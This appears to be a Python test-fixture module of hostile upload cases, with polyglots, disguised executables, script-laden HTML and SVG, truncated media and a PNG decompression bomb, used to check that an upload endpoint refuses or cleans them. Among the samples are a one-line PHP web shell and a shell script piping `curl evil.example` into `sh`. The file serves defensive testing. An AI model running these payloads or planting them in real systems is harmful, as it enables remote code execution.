"""A hostile-upload test set: every class of bad file an upload must refuse, and what it must answer.

Each case is built here from scratch (no binary fixtures in git): the bytes, the file name and
declared type a hostile client would send with them, and the answer — a status and error code,
or ``None`` for a file that must be taken (made safe). Shared by the unit tests of the sanitiser
and the integration tests of ``POST /v1/uploads``.
"""

from __future__ import annotations

import io
import math
import struct
import wave
import zipfile
from dataclasses import dataclass

from PIL import Image, PngImagePlugin


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    filename: str
    declared: str
    answer: tuple[int, str] | None
    """(status, code) the upload must get; None: taken."""


def image(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    colour: tuple[int, ...] = (200, 60, 30) if mode == "RGB" else (200, 60, 30, 120)
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, fmt, **save)
    return out.getvalue()


def wav(seconds: float = 0.5, rate: int = 22050) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        frames = int(seconds * rate)
        w.writeframes(b"".join(struct.pack("<h", int(8000 * math.sin(i / 8))) for i in range(frames)))
    return out.getvalue()


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG whose header claims width by height pixels, in a few hundred bytes."""
    small = image("PNG", (1, 1))
    ihdr_at = small.index(b"IHDR")
    body = struct.pack(">II", width, height) + small[ihdr_at + 12 : ihdr_at + 17]
    import zlib

    chunk = b"IHDR" + body
    crc = struct.pack(">I", zlib.crc32(chunk) & 0xFFFFFFFF)
    return small[: ihdr_at - 4] + struct.pack(">I", len(body)) + chunk + crc + small[ihdr_at + 21 :]


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.txt", "hello")
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret location: 51.5N 0.1W")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>gps</x:xmpmeta>")
    return image("PNG", info=info)


def jpeg_with_exif(orientation: int = 6, size: tuple[int, int] = (80, 40)) -> bytes:
    """A landscape JPEG whose EXIF says to turn it (6: 90° clockwise), with GPS and a comment."""
    img = Image.new("RGB", size, (10, 120, 200))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SpyCam"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (51.0, 30.0, 0.0)
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif, comment=b"taken at home")
    return out.getvalue()


PHP = b"<?php system($_GET['c']); ?>"

CASES: tuple[Case, ...] = (
    # Taken: the allowed types, whatever their names and declared types say.
    Case("png", image("PNG"), "photo.png", "image/png", None),
    Case("jpeg", image("JPEG"), "photo.jpg", "image/jpeg", None),
    Case("webp", image("WEBP"), "photo.webp", "image/webp", None),
    Case("gif", image("GIF"), "anim.gif", "image/gif", None),
    Case("png named .exe", image("PNG"), "setup.exe", "application/x-msdownload", None),
    Case("wav", wav(), "voice.wav", "audio/wav", None),
    # Polyglots: an image start with a payload after it is taken, and the payload does not survive.
    Case("gif with php appended", image("GIF") + PHP, "shell.php.gif", "image/gif", None),
    Case(
        "jpeg with html appended",
        image("JPEG") + b"<html><script>alert(1)</script></html>",
        "x.jpg",
        "image/jpeg",
        None,
    ),
    # Refused for what they are: the type comes from the bytes, not the name or declared type.
    Case(
        "windows executable",
        b"MZ\x90\x00\x03" + b"\x00" * 400,
        "photo.jpg",
        "image/jpeg",
        (415, "unsupported_media"),
    ),
    Case(
        "elf executable",
        b"\x7fELF\x02\x01\x01" + b"\x00" * 400,
        "photo.png",
        "image/png",
        (415, "unsupported_media"),
    ),
    Case(
        "html",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "a.png",
        "image/png",
        (415, "unsupported_media"),
    ),
    Case(
        "svg with script",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "logo.svg",
        "image/svg+xml",
        (415, "unsupported_media"),
    ),
    Case("php", PHP, "avatar.jpg", "image/jpeg", (415, "unsupported_media")),
    Case(
        "shell script",
        b"#!/bin/sh\ncurl evil.example | sh\n",
        "cat.png",
        "image/png",
        (415, "unsupported_media"),
    ),
    Case("zip archive", zip_archive(), "pics.jpg", "image/jpeg", (415, "unsupported_media")),
    Case(
        "pdf",
        b"%PDF-1.7\n1 0 obj<<>>endobj\n" + b" " * 100,
        "scan.png",
        "image/png",
        (415, "unsupported_media"),
    ),
    # Cut short, corrupt or empty: a clear 4xx, never a 500.
    Case("truncated png", image("PNG", (400, 400))[:200], "cut.png", "image/png", (422, "media_invalid")),
    Case(
        "truncated jpeg",
        jpeg_with_exif(size=(600, 400))[:400],
        "cut.jpg",
        "image/jpeg",
        (422, "media_invalid"),
    ),
    Case("png header only", image("PNG")[:8], "tiny.png", "image/png", (422, "media_invalid")),
    Case("truncated wav", wav()[:2000], "cut.wav", "audio/wav", (422, "media_invalid")),
    Case("empty", b"", "nothing.png", "image/png", (400, "upload_empty")),
    # A decompression bomb: refused from its header, before a pixel is decoded.
    Case("png bomb", png_bomb(), "bomb.png", "image/png", (413, "image_too_large")),
)


def swapped_rgb_profile() -> bytes:
    """A minimal ICC v2 RGB display profile whose red and blue primaries are swapped, so a
    conversion to sRGB is plain to see: its pure red is sRGB's blue."""

    def s15(v: float) -> bytes:
        return struct.pack(">i", round(v * 65536))

    def xyz(x: float, y: float, z: float) -> bytes:
        return b"XYZ " + b"\0" * 4 + s15(x) + s15(y) + s15(z)

    curve = b"curv" + b"\0" * 4 + struct.pack(">I", 1) + struct.pack(">H", int(2.2 * 256)) + b"\0\0"
    tags = [
        (b"wtpt", xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", xyz(0.1431, 0.0606, 0.7141)),  # sRGB's blue (D50)
        (b"gXYZ", xyz(0.3851, 0.7169, 0.0971)),
        (b"bXYZ", xyz(0.4361, 0.2225, 0.0139)),  # sRGB's red
        (b"rTRC", curve),
        (b"gTRC", curve),
        (b"bTRC", curve),
    ]
    table_size = 4 + 12 * len(tags)
    offset = 128 + table_size
    entries, data = b"", b""
    for sig, body in tags:
        entries += sig + struct.pack(">II", offset + len(data), len(body))
        data += body + b"\0" * (-len(body) % 4)
    size = 128 + table_size + len(data)
    header = (
        struct.pack(">I", size)
        + b"\0" * 4
        + struct.pack(">I", 0x02100000)
        + b"mntrRGB XYZ "
        + b"\0" * 12
        + b"acsp"
        + b"\0" * 24
        + struct.pack(">I", 0)
        + s15(0.9642)
        + s15(1.0)
        + s15(0.8249)
        + b"\0" * 48
    )
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + entries + data
